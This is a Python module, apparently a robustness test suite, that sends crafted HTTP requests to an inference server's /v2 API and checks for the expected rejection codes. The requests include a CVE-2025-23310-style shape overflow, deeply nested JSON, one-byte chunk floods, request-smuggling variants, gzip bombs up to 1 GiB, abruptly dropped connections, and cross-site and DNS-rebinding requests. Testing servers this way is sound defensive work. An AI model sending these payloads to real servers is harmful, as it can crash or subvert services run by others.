"""Attacks over HTTP with quick requests: crashes of NVIDIA's server, smuggling, bombs, disconnecting clients."""

from __future__ import annotations

import gzip
import random
import re
import socket
import zlib

from attacks.attack import Attack, Place, Tally, connect, each, rest, send

#: CVE-2025-23310 and its like: 88 bytes, 150,000 brackets, 3 MB of chunks of one byte.
_OVERFLOW = (
    b'{"inputs":[{"name":"x","shape":[1,4611686018427387904],"datatype":"FP32","data":[1,2]}]}'
)
_DEEP = b"[" * 150_000
_CHUNKS = 3_000_000
#: Each of them takes the server as long as a hundred small ones.
_ALL_CHUNKS_EVERY = 500
_SOME_CHUNKS = 3_000
#: Of spaces, which are JSON: 16 MiB and, of some, 1 GiB.
_BOMB_BYTES = 16 << 20
_LARGE_BOMB_BYTES = 1 << 30
_LARGE_BOMB_EVERY = 500
_NEXT = b"GET /v2/health/live HTTP/1.1\r\nHost: smuggled\r\n\r\n"


def post(place: Place, body: bytes, *headers: bytes, model: str = "", length: bool = True) -> bytes:
    """Return an inference request that asks to close the connection."""
    lines = [b"POST /v2/models/%s/infer HTTP/1.1" % (model or place.model).encode(), b"Host: x"]
    if length:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join([*lines, *headers, b"", b""]) + body


def status(said: bytes) -> str:
    """Return the status of a response, or how the connection ended without one; and whether a second one follows."""
    if not said:
        return "closed"
    first = said.split(b" ", 2)[1:2]
    text = first[0].decode(errors="replace") if first else "nonsense"
    return text if said.count(b"HTTP/1.1 ") == 1 else f"{text} and more"


def _exchange(place: Place, request: bytes) -> str:
    with connect(place.http) as client:
        send(client, request)
        return status(rest(client))


_CLOSE = b"Connection: close"


def _overflow(place: Place, number: int) -> str:
    return _exchange(place, post(place, _OVERFLOW, _CLOSE))


def _deep(place: Place, number: int) -> str:
    return _exchange(place, post(place, _DEEP, _CLOSE))


def _one_byte_chunks(place: Place, number: int) -> str:
    count = _SOME_CHUNKS if (number + 1) % _ALL_CHUNKS_EVERY else _CHUNKS
    chunked = post(place, b"", b"Transfer-Encoding: chunked", _CLOSE, length=False)
    return _exchange(place, chunked + b"1\r\n[\r\n" * count + b"0\r\n\r\n")


def _smuggling_variants(place: Place) -> list[bytes]:
    body = b"0\r\n\r\n" + _NEXT
    chunked = [
        b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\x0bchunked",
        b" Transfer-Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: \"chunked\"", b"transfer_encoding: chunked\nX: y",
        b"X: y\rTransfer-Encoding: chunked",
    ]  # fmt: skip
    lengths = [
        b"Content-Length: 5", b"Content-Length: +%d" % len(body), b"Content-Length: 0x10", b"Content-Length: 1 2",
        b"Content-Length : 5", b"Content-Length: 5,5", b"Content-Length: -1", b"Content-Length: 5\x00",
        b"Content-Length: 18446744073709551621",
    ]  # fmt: skip
    variants = [post(place, body, line) for line in [*chunked, *lengths]]
    starts = [
        b"POST /v2 HTTP/1.1\nHost: x\nContent-Length: 5\n\n", b"POST  /v2 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /v2 HTTP/1.1 \r\nHost: x\r\n\r\n", b"POST /v2\tHTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST /v2 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5 \r\n",
        b"POST /v2 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n",
        b"POST /v2 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
        b"POST /v2 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n",
    ]  # fmt: skip
    return variants + [start + _NEXT for start in starts]


def _smuggle(place: Place, count: int, tally: Tally) -> None:
    variants = _smuggling_variants(place)
    each(place, count, tally, lambda place, i: _exchange(place, variants[i % len(variants)]))


def _bomb_of(size: int, encoding: str) -> bytes:
    packer = zlib.compressobj(9, wbits=31 if encoding == "gzip" else 15)
    piece = b" " * (1 << 20)
    return b"".join(packer.compress(piece) for _ in range(size >> 20)) + packer.flush()


def _bombs(place: Place, count: int, tally: Tally) -> None:
    small = {name: _bomb_of(_BOMB_BYTES, name) for name in ("gzip", "deflate")}
    large = _bomb_of(_LARGE_BOMB_BYTES, "gzip") if count >= _LARGE_BOMB_EVERY else b""

    def one(place: Place, number: int) -> str:
        if (number + 1) % _LARGE_BOMB_EVERY == 0:
            return _exchange(place, post(place, large, b"Content-Encoding: gzip", _CLOSE))
        name = "deflate" if number % 2 else "gzip"
        header = f"Content-Encoding: {name}".encode()
        return _exchange(place, post(place, small[name], header, _CLOSE))

    each(place, count, tally, one)


def _large_json(place: Place, count: int, tally: Tally) -> None:
    """16 MB of numbers, on one in a hundred of the requested connections, as they take long to send."""
    numbers = b"1.25," * 3_200_000
    body = b'{"inputs":[{"name":"x","shape":[1,3200001],"datatype":"FP32","data":[%s1]}]' % numbers
    each(
        place, max(1, count // 100), tally,
        lambda place, i: _exchange(place, post(place, body, _CLOSE)), abreast=2,
    )  # fmt: skip


_RIGHT = b'{"inputs":[{"name":"x","shape":[1,2],"datatype":"FP32","data":[1,2]}]}'


def _go_away(place: Place, count: int, tally: Tally) -> None:
    """A valid request whose client disconnects after each of its bytes or during the response, sometimes by a reset."""
    request = post(place, _RIGHT)
    packed = post(place, gzip.compress(_RIGHT), b"Content-Encoding: gzip")
    chance = random.Random(1)

    def one(place: Place, number: int) -> str:
        whole = packed if number % 3 == 0 else request
        with connect(place.http) as client:
            send(client, whole[: 1 + number % (len(whole) * 2)])
            if chance.random() < 0.3:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            elif chance.random() < 0.3:
                client.shutdown(socket.SHUT_WR)
        return "went away"

    each(place, count, tally, one)


_OTHER_SITES = (
    [b"Origin: http://page.example.com", b"Sec-Fetch-Site: cross-site"],
    [b"Origin: http://page.example.com"],
    [b"Origin: null"],
    [b"Sec-Fetch-Site: same-site"],
)


def _cross_site(place: Place, number: int) -> str:
    """A request that a web page can make a browser send without a preflight: JSON declared as plain text."""
    headers = _OTHER_SITES[number % len(_OTHER_SITES)]
    return _exchange(place, post(place, _RIGHT, b"Content-Type: text/plain", _CLOSE, *headers))


def _rebinding(place: Place, number: int) -> str:
    """A request of a page whose own host name now resolves to this machine, so that it counts as same-site."""
    host = b"Host: page.example.com:%d" % place.http[1]
    asked = (
        post(place, _RIGHT, _CLOSE)
        if number % 2
        else _NEXT.replace(b"\r\n\r\n", b"\r\n%s\r\n\r\n" % _CLOSE)
    )
    return _exchange(place, re.sub(rb"Host: \w+", host, asked, count=1))


ATTACKS = {
    "overflowing-shape": Attack(lambda p, n, t: each(p, n, t, _overflow), frozenset({"400"})),
    "150,000-brackets": Attack(lambda p, n, t: each(p, n, t, _deep), frozenset({"400", "413"})),
    "one-byte-chunks": Attack(lambda p, n, t: each(p, n, t, _one_byte_chunks), frozenset({"400", "413"})),
    "smuggling": Attack(_smuggle, frozenset({"400", "501", "405"})),
    "gzip-bombs": Attack(_bombs, frozenset({"400", "413", "429"})),
    "large-json": Attack(_large_json, frozenset({"400", "429"})),
    "cross-site": Attack(lambda p, n, t: each(p, n, t, _cross_site), frozenset({"403"})),
    "rebinding": Attack(lambda p, n, t: each(p, n, t, _rebinding), frozenset({"403"})),
    "clients-that-go": Attack(_go_away),
}  # fmt: skip
